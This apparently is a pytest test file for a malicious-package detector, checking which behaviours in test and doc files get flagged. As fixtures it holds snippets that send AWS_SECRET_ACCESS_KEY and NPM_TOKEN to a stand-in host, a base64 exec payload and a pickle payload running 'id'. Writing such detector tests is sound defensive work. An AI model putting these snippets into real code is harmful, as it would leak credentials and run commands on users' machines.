"""Tests and documents are followed where something strong stands in them, or where others lead to them."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace
from reading import package, short

from biopsy import detect
from biopsy.detect.rule import evaluate, reach
from biopsy.model.behaviour import InFile, Kind, When

RUNS = "import os\nos.system('id')\n"
STEALS = "import os, requests\nrequests.post('https://x.example', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"
DECODES = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"


@pytest.mark.parametrize(
    ("path", "text", "kind"),
    [
        ("tests/test_a.py", DECODES, "code.eval"),
        ("tests/test_a.py", STEALS, "code.flow env:AWS_SECRET_ACCESS_KEY > network"),
        (
            "tests/test_a.py",
            "import pickle\npickle.loads(b'cposix\\nsystem\\n(S\"id\"\\ntR.')\n",
            "code.decode pickle",
        ),
        ("tests/a.test.js", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\n", "code.eval"),
        (
            "tests/a.test.js",
            "const https = require('https');\nhttps.request({host: 'x.example'}).write(process.env.NPM_TOKEN)\n",
            "code.flow env:NPM_TOKEN > network",
        ),
    ],
)
def test_a_test_with_both_ends_of_something_strong_is_followed(path: str, text: str, kind: str) -> None:
    seen = package({path: text}, {path: When.TEST})
    assert any(one.startswith(kind) for one in seen)


@pytest.mark.parametrize("path", ["tests/test_a.py", "docs/a.py", "tests/a.test.js"])
def test_a_test_that_merely_could_do_something_is_not_followed(path: str) -> None:
    text = RUNS if path.endswith(".py") else "require('child_process').exec('id')\n"
    when = When.DOCS if path.startswith("docs") else When.TEST
    assert not package({path: text}, {path: when})
    assert package({path: text}, {path: When.CALL})


def test_a_test_that_the_package_leads_to_is_followed_like_any_file() -> None:
    user = "def run():\n    from pkg.tests import tool\n    tool.go()\n"
    files = {
        "pkg/__init__.py": user,
        "pkg/tests/__init__.py": "",
        "pkg/tests/tool.py": f"{RUNS}def go():\n    os.system('ls')\n",
    }
    moments = {path: When.TEST if "tests" in path else When.IMPORT for path in files}
    assert {"process.exec id", "process.exec ls"} <= short(package(files, moments))
    del files["pkg/__init__.py"]
    assert not package(files, moments)


SNIPPETS = [
    RUNS,
    STEALS,
    DECODES,
    "x = 1\n",
    "from pkg import *\n",
    "import pkg.core\npkg.core.go('id')\n",
    "def (\n",
]
CORE = "import os, sys\ndef go(text):\n    os.system(text)\ngo(sys.argv[0])\n"


@settings(max_examples=30, deadline=None)
@given(
    st.lists(
        st.tuples(st.sampled_from(["tests", "docs", "pkg/tests"]), st.sampled_from(SNIPPETS)), max_size=5
    )
)
def test_more_tests_and_documents_take_nothing_from_what_is_seen_in_the_package(
    added: list[tuple[str, str]],
) -> None:
    files = {"pkg/__init__.py": STEALS + DECODES + "from . import core\n", "pkg/core.py": CORE}
    alone = package(files, dict.fromkeys(files, When.IMPORT))
    more = {f"{folder}/test_{number}.py": text for number, (folder, text) in enumerate(added)}
    moments = dict.fromkeys(files, When.IMPORT) | dict.fromkeys(more, When.TEST)
    assert set(alone) <= set(package(files | more, moments))


HEARD = {
    "evasion/bytecode-as-data",
    "evasion/code-in-data",
    "execution/pickle-reaches-out",
    "execution/pickle-runs-command",
    "execution/pickle-steals",
    "install/build-runs-own-script",
    "metadata/artifact-holds-other-code",
}
"""Rules that hear of something wherever it stands.

That is read without following, as what `binding.gyp` runs, or its words (`Strong`) are looked for in tests too.
"""
FOLLOWED = (Kind.CODE_FLOW, Kind.CODE_EVAL, Kind.PROCESS_EXEC, Kind.NET_HTTP, Kind.NET_CONNECT, Kind.FILE_READ,
            Kind.FILE_WRITE, Kind.ENV_READ, Kind.ENV_HOST)  # fmt: skip


def test_rules_that_hear_of_what_following_finds_in_tests_are_known() -> None:
    """Else a detection would be lost: such a rule asks for a moment, or its words are added to `Strong`."""
    known = {rule.id: rule for rule in detect.load()}
    heard = set()
    for rule in known.values():
        for example in rule.examples:
            if not example.match or not all(isinstance(b.where, InFile) for b in example.behaviours):
                continue
            aside = tuple(replace(b, where=replace(b.where, when=When.TEST)) for b in example.behaviours)
            cast = [*(known[name] for name in reach(rule.needs, known)), rule]
            matched = {found.id for found, _ in evaluate(cast, replace(example, behaviours=aside).scene(()))}
            if rule.id in matched and any(b.kind in FOLLOWED for b in aside):
                heard.add(rule.id)
    assert heard <= HEARD
